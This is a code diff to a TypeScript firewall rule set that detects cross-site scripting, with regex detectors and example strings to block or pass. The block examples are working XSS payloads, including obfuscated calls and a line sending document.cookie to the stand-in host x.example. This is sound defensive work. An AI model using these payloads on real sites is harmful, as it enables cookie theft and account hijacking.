@@ -1,4 +1,7 @@
+import { htmlSigns, isScriptAddress } from "../detectors/html.ts";
 import { everywhere, freeText, type WafRule } from "../rule.ts";
+
+const texts = [...everywhere, "file_content"] as const;
 
 /** Signs of script in text. Pages escape everything and the content policy runs no inline script; this is a layer before. */
 export const crossSiteScriptingRules: readonly WafRule[] = [
@@ -8,7 +11,9 @@ export const crossSiteScriptingRules: readonly WafRule[] = [
     severity: "critical",
     why: "a script element",
     targets: everywhere,
-    pattern: /<\/?script(?:[\s/>]|$)/,
+    needs: ["<"],
+    sign: ({ text, html }) => (html & htmlSigns.script) !== 0 || /<\/script\s?>.{0,40}<|['"];?\s?<\/script/.test(text),
+    ignoresCode: true,
     examples: {
       blocks: [
         "<script>alert(1)</script>",
@@ -16,8 +21,10 @@ export const crossSiteScriptingRules: readonly WafRule[] = [
         "%253Cscript%253E",
         "\\u003cscript\\u003e",
         "<ScRiPt/x>",
+        "\\74script\\76",
+        "< script >",
       ],
-      passes: ["Film script <draft 2>", "5 < scripts", "A <scripted> reply"],
+      passes: ["Film script <draft 2>", "5 < scripts", "A <scripted> reply", "Never use `<script>` here"],
     },
   },
   {
@@ -25,91 +32,177 @@ export const crossSiteScriptingRules: readonly WafRule[] = [
     class: "cross_site_scripting",
     severity: "critical",
     why: "an element with an event handler attribute",
-    targets: everywhere,
-    pattern: /<[a-z!/?][^<>]{0,300}[\s/"'`]on[a-z]{4,24}\s?=/,
+    targets: texts,
+    needs: ["<", "="],
+    sign: ({ html }) => (html & htmlSigns.handler) !== 0,
+    ignoresCode: true,
     examples: {
       blocks: [
         "<img src=x onerror=alert(1)>",
         "<svg/onload=alert(1)>",
         "<body\nonload = x()>",
         "<a href='x'onmouseover=y>",
+        "<x onpointerrawupdate=y>",
       ],
-      passes: ["a <b on monday = holiday", "x < 3 and online = true", "<marks> on paper = 50"],
+      passes: ["a <b on monday = holiday", "x < 3 and online = true", "<marks> on paper = 50", "<p once=1>"],
     },
   },
   {
     id: "xss-attribute-break",
     class: "cross_site_scripting",
     severity: "critical",
-    why: "a quote ends an attribute and an event handler follows",
-    targets: everywhere,
-    pattern:
-      /["'`]\s?\/?>?\s?(?:\w{0,20}\s)?on(?:error|load|click|dblclick|mouse[a-z]{2,6}|pointer[a-z]{2,8}|focus(?:in|out)?|blur|input|change|submit|key(?:down|up|press)|toggle|animation[a-z]{3,9}|transition[a-z]{3,6}|wheel|copy|paste|drag[a-z]{0,5}|drop|scroll|begin|pageshow|hashchange|message|popstate)\s?=/,
+    why: "an event handler attribute without its element: it lands inside one",
+    targets: texts,
+    needs: ["="],
+    sign: /(?:^|[\s"'`/>;)])on(?:error|load(?:start|end)?|unload|click|dblclick|auxclick|contextmenu|mouse[a-z]{2,6}|pointer[a-z]{2,12}|touch[a-z]{3,6}|focus(?:in|out)?|blur|input|change|submit|reset|select(?:start)?|invalid|key(?:down|up|press)|toggle|beforetoggle|animation[a-z]{3,9}|transition[a-z]{3,6}|wheel|copy|cut|paste|drag[a-z]{0,5}|drop|scroll(?:end)?|begin|end|repeat|page(?:show|hide)|hashchange|message|popstate|storage|resize|show|finish|start|play(?:ing)?|canplay|timeupdate|loadeddata|ended|before[a-z]{4,16}|after[a-z]{4,16}|readystatechange|propertychange|filterchange|webkit[a-z]{6,30}|cuechange|search)\s?=\s?(?:["'`]|\\["']|&|[a-z_$.[\]]{1,40}\s?[(`=;[+.]|[({[]|\(?\w{0,10}\))(?<!=\s?\{(?=\s?(?:async\s)?(?:\([\w\s,{}:]{0,60}\)?\s?=>|[\w.$]{1,60}\s?(?:\}|=>))))/,
+    ignoresCode: true,
     examples: {
-      blocks: ['" onfocus=alert(1) autofocus="', "' autofocus onfocus=x '"],
-      passes: ['The "online" load = 4 kW', "'on' click counts = 3"],
+      blocks: ['" onfocus=alert(1) autofocus="', "' autofocus onfocus='x'", "x onmouseover=alert(1)"],
+      passes: ['The "online" load = 4 kW', "'on' click counts = 3", "?onload=1", "tap onclick = true"],
+    },
+  },
+  {
+    id: "xss-script-address",
+    class: "cross_site_scripting",
+    severity: "critical",
+    why: "an attribute that takes an address and is given a script, or a page as data",
+    targets: texts,
+    needs: ["<", ":,", "="],
+    sign: ({ html }) => (html & htmlSigns.scriptAddress) !== 0,
+    ignoresCode: true,
+    examples: {
+      blocks: [
+        "<a href='jav&#x09;ascript:x'>",
+        '<button formaction="java\nscript : x">',
+        "<object data='data:text/html,x'>",
+      ],
+      passes: [
+        "src = JavaScript files",
+        "<a href='javascript:void(0)'>open</a>",
+        "<img src='data:image/png;base64,iVBO='>",
+      ],
     },
   },
   {
     id: "xss-javascript-uri",
     class: "cross_site_scripting",
     severity: "critical",
-    why: "a javascript: address with code in it",
+    why: "a javascript: address with code in it, or a data: address that is a page",
     targets: everywhere,
-    pattern: /\bjavascript:(?:\/\/|[a-z_$][\w.$[\]]{0,60}\s?[(=`]|[([%"'`]|void\b)/,
+    needs: [":"],
+    sign: ({ text }) =>
+      /\b(?:javascript|vbscript|livescript):\s?(?:\/\/|\/\*|[a-z_$][\w.$[\]]{0,60}(?:[(`[]|\s?=)|[([%"'`{+!~-]|\\|\d)/.test(
+        text.replace(/javascript:(?:void\(0\)|;|history\.)/g, ""),
+      ) ||
+      (/^.{0,3}(?:j|v|data:|d\s?a\s?t\s?a|feed|view)/.test(text) &&
+        isScriptAddress(text.slice(0, 512)) &&
+        /:\S|[\t\n ]s\s?c/.test(text)) ||
+      /\bdata:(?:text\/html|application\/xhtml\+xml|text\/xml)[^\s,]{0,40},[^\s]{0,200}(?:<|%3c|phn|pgh|pgl|psv|phg|charset)/.test(
+        text,
+      ),
+    ignoresCode: true,
     examples: {
-      blocks: ["javascript:alert(1)", "javascript://%0aalert(1)", "JaVaScRiPt:window.name=1"],
-      passes: ["JavaScript: The Good Parts (2008)", "Learn JavaScript: basics (part 1)"],
+      blocks: [
+        "javascript:alert(1)",
+        "javascript://%0aalert(1)",
+        "JaVaScRiPt:window.name=1",
+        "java\nscript:alert(1)",
+        "data:text/html;base64,PHNjcmlwdD4=",
+      ],
+      passes: [
+        "JavaScript: The Good Parts (2008)",
+        "Learn JavaScript: basics (part 1)",
+        "javascript:void(0)",
+        "Data: text/plain",
+      ],
     },
   },
   {
-    id: "xss-uri-attribute",
-    class: "cross_site_scripting",
-    severity: "critical",
-    why: "an attribute that takes an address and is given a script",
-    targets: everywhere,
-    pattern:
-      /\b(?:href|src|action|formaction|data|poster|background|srcdoc)\s?=\s?["'`]?\s?(?:j\s?a\s?v\s?a\s?s\s?c\s?r\s?i\s?p\s?t|v\s?b\s?s\s?c\s?r\s?i\s?p\s?t)\s?:/,
-    examples: {
-      blocks: ["<a href='jav&#x09;ascript:x'>", 'formaction="java\nscript : x"'],
-      passes: ["src = JavaScript files", "data = javascript notes: chapter 1"],
-    },
-  },
-  {
-    id: "xss-data-uri",
-    class: "cross_site_scripting",
-    severity: "critical",
-    why: "a data: address that is a page",
-    targets: everywhere,
-    pattern: /\bdata:(?:text\/html|application\/xhtml\+xml)[;,]|\bvbscript:[a-z(]/,
-    examples: {
-      blocks: ["data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)"],
-      passes: ["Data: text/plain and numbers", "data:image/png;base64,iVBORw0KGgo="],
-    },
-  },
-  {
-    id: "xss-frame",
+    id: "xss-active-element",
     class: "cross_site_scripting",
     severity: "critical",
     why: "an element that loads another page or program",
     targets: freeText,
-    pattern: /<(?:iframe|embed|applet|frameset|foreignobject)(?:[\s/>]|$)/,
+    needs: ["<"],
+    sign: ({ html }) => (html & htmlSigns.active) !== 0,
+    ignoresCode: true,
     examples: {
-      blocks: ["<iframe src=//x.example>", "<embed/src=x>"],
-      passes: ["The <frame> of the door", "embed <your> heart"],
+      blocks: [
+        "<iframe src=//x.example>",
+        "<embed/src=x>",
+        "<base href=//x.example/>",
+        "<meta http-equiv=refresh content=0>",
+        "<set attributename=href to=x>",
+      ],
+      passes: [
+        "The <frame> of the door",
+        "embed <your> heart",
+        '<iframe src="https://www.youtube.com/embed/x1"></iframe>',
+      ],
+    },
+  },
+  {
+    id: "xss-style",
+    class: "cross_site_scripting",
+    severity: "critical",
+    why: "a style that runs or imports something",
+    targets: freeText,
+    needs: ["<", "(:@"],
+    sign: ({ html }) => (html & htmlSigns.style) !== 0,
+    ignoresCode: true,
+    examples: {
+      blocks: [
+        "<x style=width:expression(alert(1))>",
+        "<style>@import url(//x.example)</style>",
+        '<div style="background:url(javascript:x)">',
+      ],
+      passes: ['<p style="color:red">x</p>', '<div style="background:url(/a.png)">'],
     },
   },
   {
     id: "xss-element",
     class: "cross_site_scripting",
-    severity: "error",
+    severity: "warning",
     why: "an element that can run or load something, given the right attributes",
     targets: freeText,
-    pattern:
-      /<\/?(?:object|svg|math|link|meta|base|style|form|img|video|audio|details|marquee|template|body|html|input|button|textarea|image|noscript|plaintext)(?:[\s/>]|$)/,
+    needs: ["<"],
+    sign: ({ html }) => (html & htmlSigns.suspicious) !== 0,
+    ignoresCode: true,
+    ignoresDocuments: true,
+    examples: { blocks: ["<math>eval(x)+alert(1)</math>"], passes: ["How the <svg> tag works", "Map<Object> in code"] },
+  },
+  {
+    id: "xss-script-break",
+    class: "cross_site_scripting",
+    severity: "critical",
+    why: "a string in a script ends and a call follows",
+    targets: freeText,
+    needs: ["'\"`})];", "(`=["],
+    sign: /['"`]\s?[)\]}]{0,3}\s?(?:[;+\-*/|&^<>?%]{1,3}|,|\}{1,3};?|in\s)\s?(?:\(?\s?(?:window|self|top|parent|frames|this|globalthis|document)\s?(?:\.|\[)\s?)?['"[\s(]{0,3}(?:alert|confirm|prompt|eval|settimeout|setinterval|fetch|import|location|document\.(?:cookie|write|location|domain)|\$\.getscript|postmessage)['"\])]{0,3}(?:\((?!\))|`|=(?!=)|\.call|\.apply|\?\.\(|\/\*)|[)\]}]\s?[;+\-*/|&^]{1,2}\s?(?:alert|confirm|prompt|eval)['"\])]{0,3}[(`]\s?(?:\d|document|window|location|origin|['"`/]x|\))/,
+    ignoresDocuments: true,
     examples: {
-      blocks: ["<object data=x>eval(name)</object>"],
-      passes: ["How the <img> tag works", "Map<Object> in code"],
+      blocks: ["';alert(1)//", '"-alert(1)-"', "'+eval(name)+'", '"};alert(1);{"', "');fetch('//x.example')//"],
+      passes: ["'Red'; alert team", "(a) + open (late)", 'He said "hi"; prompt reply'],
+    },
+  },
+  {
+    id: "xss-obfuscated-call",
+    class: "cross_site_scripting",
+    severity: "critical",
+    why: "a call by a name that is hidden: computed, split, escaped or built from punctuation",
+    targets: freeText,
+    needs: ["[(`{", "([])'\"`="],
+    sign: /\b(?:window|self|top|parent|frames|this|globalthis|document|content|location)\s?\[\s?(?:['"`/]|[a-z]{1,12}\()[^\]]{1,60}\]\s?[(=.[`]|\[\]\s?\[\s?\(|\(!\[\]\+|\bconstructor\s?\(\s?['"`]|\beval\s?\(\s?(?:atob|string|unescape|location|name|decodeuri|'|"|`|\/|\+|url|top|self)|\bstring\.fromcharcode\s?\(\s?\d{2,3}|\bnew\sfunction\s?[(`]|\bfunction\s?\(\s?['"`][^'"`]{1,80}['"`]\s?\)\s?\(|\bset(?:timeout|interval)\s?[(`]\s?['"`]?(?:alert|confirm|prompt|eval|\\|string|document)|\/[a-z]{1,8}\/\.source\b|\breflect\.(?:apply|construct)\b|\bonerror\s?=\s?(?:alert|eval|confirm|prompt|print)\s?[;,}]|\[['"`][a-z]{1,30}['"`]\](?:\[['"`][a-z]{1,30}['"`]\]|\(['"`\d])/,
+    ignoresDocuments: true,
+    examples: {
+      blocks: [
+        "top['al'+'ert'](1)",
+        "eval(atob('YWxlcnQoMSk='))",
+        "[][(![]+[])[+[]]]",
+        "[]['filter']['constructor']('x')()",
+        "{onerror=alert}throw 1",
+      ],
+      passes: ["self [2] (see note)", "this['name']", "eval (annual)", "top [10] = best"],
     },
   },
   {
@@ -118,11 +211,31 @@ export const crossSiteScriptingRules: readonly WafRule[] = [
     severity: "warning",
     why: "calls that injected scripts make first",
     targets: freeText,
-    pattern:
-      /\b(?:alert|confirm|prompt|eval|settimeout|setinterval|atob|fetch|import)\s?[(`]|\bdocument\.(?:cookie|write|location|domain)\b|\bwindow\.(?:location|name|open)\b|\.innerhtml\b|string\.fromcharcode|\bsrcdoc\s?=/,
+    needs: ["(`.", "(`.="],
+    sign: /(?<!`)\b(?:alert|confirm|prompt|eval|settimeout|setinterval|atob|fetch|import)\s?(?:[(`]|\?\.\()|\bdocument\.(?:cookie|write(?:ln)?|location|domain)\b|\bwindow\.(?:location|name|open)\b|\.(?:inner|outer)html\b|string\.fromcharcode|\bsrcdoc\s?=|\bxmlhttprequest\b|\bdocument\[|\blocation\.(?:href|hash|assign|replace)/,
+    ignoresDocuments: true,
     examples: {
-      blocks: ["<math>eval(x)</math>", "<style>@import(x)</style>"],
+      blocks: ["<math>eval(x)</math>", "alert(document.cookie)"],
       passes: ["Red alert (test)", "eval() considered harmful", "How document.cookie works"],
+    },
+  },
+  {
+    id: "xss-bare-call",
+    class: "cross_site_scripting",
+    severity: "error",
+    why: "the value is a call that shows or steals something, and nothing else",
+    targets: freeText,
+    needs: ["(`="],
+    sign: /^[\s\W]{0,8}(?:(?:window|self|top|parent|document)\.)?(?:alert|confirm|prompt|eval|print|document\.write(?:ln)?)[(`](?!\))[^\n]{0,160}$|\b(?:alert|confirm|prompt)[(`]\s?(?:\d{1,8}|document\.|'xss|"xss|\/xss|`xss|xss|origin|location|string\.|self|window)|\b(?:document|window|self|top)?\.?location(?:\.href)?\s?=\s?['"`(](?:\/\/|https?:|j)|document\.cookie\s?[)+]|[+,]\s?document\.cookie|\bnew\simage\s?\(?\)?\.src/,
+    ignoresDocuments: true,
+    examples: {
+      blocks: [
+        "alert(1)",
+        "prompt`1`",
+        "confirm(document.domain)",
+        "window.location='https://x.example/?'+document.cookie",
+      ],
+      passes: ["Red alert (test) for all", "Confirm (by 5 pm)", "prompt (a) or prompt (b)?"],
     },
   },
 ];
